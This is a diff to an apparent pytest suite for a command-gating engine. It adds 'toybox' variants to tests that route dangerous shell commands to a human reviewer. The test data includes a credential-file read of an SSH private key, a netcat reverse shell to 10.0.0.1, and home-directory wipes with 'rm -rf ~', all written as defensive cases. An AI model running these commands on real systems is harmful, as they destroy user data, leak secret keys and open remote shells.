@@ -28,6 +28,8 @@ if TYPE_CHECKING:
         "busybox cat ~/.ssh/id_rsa",
         "busybox nc -e /bin/sh 10.0.0.1 4444",
         "sudo busybox ls",
+        "toybox rm -rf ~",
+        "toybox sh -c 'rm -rf ~'",
     ],
 )
 def test_a_dangerous_applet_goes_to_the_human(
@@ -36,7 +38,9 @@ def test_a_dangerous_applet_goes_to_the_human(
     assert_goes_to_the_human(quiet_engine, command, str(gk_env.project))
 
 
-@pytest.mark.parametrize("command", ["busybox ls", "busybox --list", "busybox", "busybox $X"])
+@pytest.mark.parametrize(
+    "command", ["busybox ls", "busybox --list", "busybox", "busybox $X", "toybox ls"]
+)
 def test_a_harmless_applet_is_still_reviewed(
     command: str, quiet_engine: Engine, gk_env: GkEnv
 ) -> None:
